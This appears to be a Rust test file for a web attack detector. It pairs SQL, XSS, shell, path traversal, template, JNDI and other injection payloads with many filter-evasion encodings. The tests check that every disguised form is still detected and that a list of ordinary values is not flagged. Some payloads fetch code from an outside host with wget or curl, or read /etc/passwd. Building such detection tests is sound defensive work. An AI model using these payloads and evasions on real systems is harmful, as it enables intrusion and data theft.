//! Disguises: base attacks of each kind, each written in the ways that get past filters, and each still found by the shipped rules;
//! and ordinary values that look odd, of which none is taken for an attack.

mod labelled;

use std::collections::BTreeSet;
use std::fmt::Write;

use gatewatch::event::Event;
use labelled::{Catalogue, encoded};

/// What a disguise is applied to decides whether it leaves the attack an attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Language {
    Sql,
    Html,
    Shell,
    Path,
    Template,
    /// Any other, of which only the encodings of the request are undone.
    Other,
}

use Language::{Html, Other, Path, Shell, Sql, Template};

const ATTACKS: &[(Language, &str)] = &[
    (Sql, "1' union select login,password from staff-- "),
    (Sql, "x' or 'a'='a"),
    (Sql, "1 and sleep(5)"),
    (
        Sql,
        "1 and (select count(*) from information_schema.tables)>0",
    ),
    (Sql, "1;drop table visits--"),
    (Html, "<script>alert(1)</script>"),
    (Html, "<img src=x onerror=alert(1)>"),
    (Html, "<svg onload=alert(1)>"),
    (Html, "<iframe src=javascript:alert(1)></iframe>"),
    (Shell, "127.0.0.1;cat /etc/passwd"),
    (Shell, "x|wget http://198.51.100.9/a"),
    (Shell, "$(curl http://198.51.100.9/a)"),
    (Path, "../../../../etc/passwd"),
    (Path, "..\\..\\windows\\win.ini"),
    (Template, "{{7*7}}"),
    (Template, "{{''.__class__.__mro__}}"),
    (Other, "*)(uid=*))(|(uid=*"),
    (
        Other,
        "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hosts\">]>",
    ),
    (Other, "${jndi:ldap://198.51.100.9/a}"),
    (Other, "{\"$ne\":\"\"}"),
];

/// A way to write a value differently: whether it suits a language, and the query that it makes of the value.
struct Disguise {
    name: &'static str,
    suits: fn(Language) -> bool,
    query: fn(&str) -> String,
}

fn any(_: Language) -> bool {
    true
}

/// Every byte percent-encoded, so many times over.
fn percent(value: &str, times: u32) -> String {
    (0..times).fold(value.to_owned(), |value, _| {
        value.bytes().fold(String::new(), |mut out, byte| {
            let _ = write!(out, "%{byte:02x}");
            out
        })
    })
}

/// Upper and lower case in turn.
fn mixed_case(value: &str) -> String {
    value
        .char_indices()
        .map(|(at, letter)| {
            if at % 2 == 0 {
                letter.to_ascii_uppercase()
            } else {
                letter.to_ascii_lowercase()
            }
        })
        .collect()
}

/// What stands between words replaced.
fn spaces(value: &str, by: &str) -> String {
    value.trim_end().replace(' ', by)
}

/// A mark inside of each word of some length.
fn inside_words(value: &str, mark: &str) -> String {
    let mut out = String::new();
    for word in value.split_inclusive(|c: char| !c.is_ascii_alphanumeric()) {
        if word.len() > 3 {
            out.push_str(&word[..2]);
            out.push_str(mark);
            out.push_str(&word[2..]);
        } else {
            out.push_str(word);
        }
    }
    out
}

/// A character for each ASCII sign by a rule.
fn each(value: &str, write: impl Fn(char) -> String) -> String {
    value
        .chars()
        .map(|sign| {
            if sign.is_ascii_alphanumeric() || sign == ' ' {
                sign.to_string()
            } else {
                write(sign)
            }
        })
        .collect()
}

fn base64(value: &str) -> String {
    use ::base64::Engine;
    ::base64::engine::general_purpose::STANDARD_NO_PAD.encode(value)
}

const DISGUISES: &[Disguise] = &[
    Disguise {
        name: "none",
        suits: any,
        query: encoded,
    },
    Disguise {
        name: "every byte encoded",
        suits: any,
        query: |v| percent(v, 1),
    },
    Disguise {
        name: "encoded twice",
        suits: any,
        query: |v| percent(v, 2),
    },
    Disguise {
        name: "encoded three times",
        suits: any,
        query: |v| encoded(&percent(v, 2)),
    },
    Disguise {
        name: "%u notation",
        suits: any,
        query: |v| {
            v.chars().fold(String::new(), |mut out, c| {
                let _ = write!(out, "%u{:04X}", u32::from(c));
                out
            })
        },
    },
    Disguise {
        name: "base64",
        suits: |l| l != Path,
        query: |v| encoded(&base64(v)),
    },
    Disguise {
        name: "base64 of a path",
        suits: |l| l == Path,
        query: |v| encoded(&base64(v)),
    },
    Disguise {
        name: "full-width signs",
        suits: any,
        query: |v| {
            encoded(&each(v, |c| {
                char::from_u32(u32::from(c) + 0xFEE0).unwrap().to_string()
            }))
        },
    },
    Disguise {
        name: "escapes \\x",
        suits: any,
        query: |v| encoded(&each(v, |c| format!("\\x{:02x}", u32::from(c)))),
    },
    Disguise {
        name: "escapes \\u",
        suits: any,
        query: |v| encoded(&each(v, |c| format!("\\u{:04x}", u32::from(c)))),
    },
    Disguise {
        name: "entities in decimal",
        suits: any,
        query: |v| encoded(&each(v, |c| format!("&#{};", u32::from(c)))),
    },
    Disguise {
        name: "entities in hexadecimal, padded",
        suits: any,
        query: |v| encoded(&each(v, |c| format!("&#x0000{:X};", u32::from(c)))),
    },
    Disguise {
        name: "mixed case",
        suits: |l| matches!(l, Sql | Html | Other),
        query: |v| encoded(&mixed_case(v)),
    },
    Disguise {
        name: "tabs for spaces",
        suits: |l| matches!(l, Sql | Html | Shell),
        query: |v| encoded(&spaces(v, "\t")),
    },
    Disguise {
        name: "line breaks for spaces",
        suits: |l| matches!(l, Sql | Html),
        query: |v| encoded(&spaces(v, "\r\n")),
    },
    Disguise {
        name: "plus for spaces",
        suits: any,
        query: |v| encoded(v).replace("%20", "+"),
    },
    Disguise {
        name: "comments for spaces",
        suits: |l| l == Sql,
        query: |v| encoded(&spaces(v, "/**/")),
    },
    Disguise {
        name: "filled comments for spaces",
        suits: |l| l == Sql,
        query: |v| encoded(&spaces(v, "/*x1*/")),
    },
    Disguise {
        name: "many spaces",
        suits: |l| matches!(l, Sql | Shell),
        query: |v| encoded(&spaces(v, "     ")),
    },
    Disguise {
        name: "no-break spaces",
        suits: |l| l == Sql,
        query: |v| encoded(&spaces(v, "\u{A0}")),
    },
    Disguise {
        name: "NUL inside of words",
        suits: |l| matches!(l, Html | Sql),
        query: |v| encoded(&inside_words(v, "\0")),
    },
    Disguise {
        name: "quotes inside of words",
        suits: |l| l == Shell,
        query: |v| encoded(&inside_words(v, "''")),
    },
    Disguise {
        name: "backslashes inside of words",
        suits: |l| l == Shell,
        query: |v| encoded(&inside_words(v, "\\")),
    },
    Disguise {
        name: "$IFS for spaces",
        suits: |l| l == Shell,
        query: |v| encoded(&spaces(v, "${IFS}")),
    },
    Disguise {
        name: "$IFS$9 for spaces",
        suits: |l| l == Shell,
        query: |v| encoded(&spaces(v, "$IFS$9")),
    },
    Disguise {
        name: "doubled slashes",
        suits: |l| l == Path,
        query: |v| encoded(&v.replace('/', "//")),
    },
    Disguise {
        name: "slashes and dots",
        suits: |l| l == Path,
        query: |v| encoded(&v.replace('/', "/./")),
    },
    Disguise {
        name: "backslashes for slashes",
        suits: |l| l == Path,
        query: |v| encoded(&v.replace('/', "\\")),
    },
    Disguise {
        name: "overlong dots and slashes",
        suits: |l| l == Path,
        query: |v| {
            v.replace('.', "%c0%ae")
                .replace('/', "%c0%af")
                .replace('\\', "%c1%9c")
        },
    },
    Disguise {
        name: "0x2e for dots",
        suits: |l| l == Path,
        query: |v| encoded(&v.replace('.', "0x2e")),
    },
    Disguise {
        name: "NUL and an extension",
        suits: |l| l == Path,
        query: |v| format!("{}%00.png", encoded(v)),
    },
    Disguise {
        name: "spaces inside of braces",
        suits: |l| l == Template,
        query: |v| encoded(&v.replace("{{", "{{  ").replace("}}", "  }}")),
    },
    Disguise {
        name: "slash for the space of a tag",
        suits: |l| l == Html,
        query: |v| encoded(&v.replace(' ', "/")),
    },
    Disguise {
        name: "long padding before",
        suits: any,
        query: |v| format!("{}{}", "(a)".repeat(6_000), encoded(v)),
    },
];

#[test]
fn every_disguise_of_every_attack_is_found_by_a_rule_that_knows_the_attack() {
    let mut catalogue = Catalogue::load();
    let mut titles = |query: &str| -> BTreeSet<String> {
        let mut event = Event {
            path: Some("/api/v1/search".into()),
            query: Some(format!("q={query}").into()),
            ..Event::default()
        };
        let rules = catalogue.alerting(&mut event);
        rules.iter().map(|rule| rule.meta.title.clone()).collect()
    };
    let (mut tried, mut missed) = (0, Vec::new());
    for (language, attack) in ATTACKS {
        let plain = titles(&encoded(attack));
        for disguise in DISGUISES
            .iter()
            .filter(|disguise| (disguise.suits)(*language))
        {
            tried += 1;
            let found = titles(&(disguise.query)(attack));
            // That something is encoded oddly is not yet what it is.
            if plain.is_disjoint(&found) {
                missed.push(format!("{attack}: {}: only {found:?}", disguise.name));
            }
        }
    }
    assert!(tried >= 300, "{tried}");
    assert!(
        missed.is_empty(),
        "{} of {tried}:\n{}",
        missed.len(),
        missed.join("\n")
    );
}

#[test]
fn attacks_are_found_wherever_a_log_shows_them() {
    let mut catalogue = Catalogue::load();
    let mut missed = Vec::new();
    for (_, attack) in ATTACKS {
        let places = [
            (
                "path",
                Event {
                    path: Some(format!("/api/v1/items/{}", encoded(attack)).into()),
                    ..Event::default()
                },
            ),
            (
                "name",
                Event {
                    path: Some("/".into()),
                    query: Some(format!("{}=1", encoded(attack)).into()),
                    ..Event::default()
                },
            ),
            (
                "user agent",
                Event {
                    path: Some("/".into()),
                    user_agent: Some(format!("agent/1.0 {attack}").into()),
                    ..Event::default()
                },
            ),
            (
                "referer",
                Event {
                    path: Some("/".into()),
                    referer: Some(format!("https://h.example/a?q={}", encoded(attack)).into()),
                    ..Event::default()
                },
            ),
        ];
        for (place, mut event) in places {
            if catalogue.alerting(&mut event).is_empty() {
                missed.push(format!("{place}: {attack}: {:?}", event.payload));
            }
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

/// What people and programs send: names, prose, snippets in tickets, tokens, ids, filters.
const ORDINARY: &[&str] = &[
    "O'Neill",
    "D'Angelo & Sons (Ltd.)",
    "O'Brien-Smith, Mary-Jane",
    "L'Oréal \"Paris\" 50% off",
    "rock 'n' roll and jazz",
    "Please select the room from the list and update the status",
    "The union of residents selected a new board; drop by table 5",
    "If you order by 10 am, delivery is free",
    "the gate is open or closed? it's 5 and 6 = 11",
    "I love you <3 and <b you",
    "a < b && b > c, so a != c",
    "x -> y => z; i++ / 2",
    "price: $100 (or $90 for members) *incl. VAT*",
    "temperature >= 20 and humidity < 60",
    "see https://docs.example.com/a/b?c=d&e=f#part-2 for details",
    "https://app.example.com/callback?code=abc&state=xyz",
    "/residents/17/visits?from=2026-03-01",
    "report (final) v2.1 [draft].pdf",
    "{\"filter\":{\"status\":\"new\",\"floor\":[1,2,3]},\"limit\":50}",
    "[{\"field\":\"name\",\"op\":\"like\",\"value\":\"Ivan%\"}]",
    "status eq 'active' and createdAt gt 2026-03-01",
    "name=='Ivan';floor=gt=3,flat=in=(1,2)",
    "(status:open OR status:new) AND priority:[3 TO 5]",
    "550e8400-e29b-41d4-a716-446655440000",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "eyJpZCI6MTIzLCJkaXIiOiJuZXh0In0=",
    "dGhlIHF1aWNrIGJyb3duIGZveCAoanVtcHMp",
    "YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXo=",
    "IwAR1dug0BYxe0ukhZ2vKrdQwLAxVFRJ--Q2Y7OBJE_0uId9-Eh",
    "Жуковский, д. 5, кв. 12 (вход со двора)",
    "Пропуск для «Газель» на 10:00; гость — Иванов И. И.",
    "не работает домофон!!! срочно?",
    "Привет, выберите комнату из списка; где ключи?",
    "+7 (916) 123-45-67",
    "ivan.petrov+gate@example.com",
    "2026-03-01T10:00:00+03:00",
    "55.7558,37.6173",
    "1' 6\" tall, 32\" screen",
    "#hashtag @mention $tag",
    "50% discount & free shipping!",
    "C++ / C# developer",
    "what is 2*2? = 4",
    "the script of the play, act <2>",
    "meeting: data: review & planning",
    "java: the island; javascript: the language",
    "echo cancelling microphone; cat food | dog food",
    "sleep (8 hours) is important; wait for delay",
    "function of the committee, alert (see below)",
    "ls 300 Lexus, nc 8000 controller, id 17",
    "SELECT edition t-shirt, size L",
    "WHERE is my order? and when",
    "-- best regards, Ivan",
    "a--b--c",
    "*** important ***",
    "=SUM(A1:A5)",
    "node:18 and php 8.2 (fpm)",
    "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "AND & OR gates; NOT <null>",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "ＡＢＣ株式会社（東京）",
    "ночь, улица | фонарь, аптека",
    "limit 10, offset 20 (page {n})",
    "{{resident_id}}",
    "${total}",
];

#[test]
fn ordinary_values_are_left_in_peace() {
    let mut catalogue = Catalogue::load();
    let mut mistaken = Vec::new();
    for value in ORDINARY {
        let mut event = Event {
            path: Some("/api/v1/tickets".into()),
            query: Some(format!("text={}&page=2", encoded(value)).into()),
            ..Event::default()
        };
        let titles: Vec<String> = catalogue
            .alerting(&mut event)
            .iter()
            .map(|rule| rule.meta.title.clone())
            .collect();
        if !titles.is_empty() {
            mistaken.push(format!("{value}: {titles:?}: {:?}", event.payload));
        }
    }
    assert!(mistaken.is_empty(), "{}", mistaken.join("\n"));
}
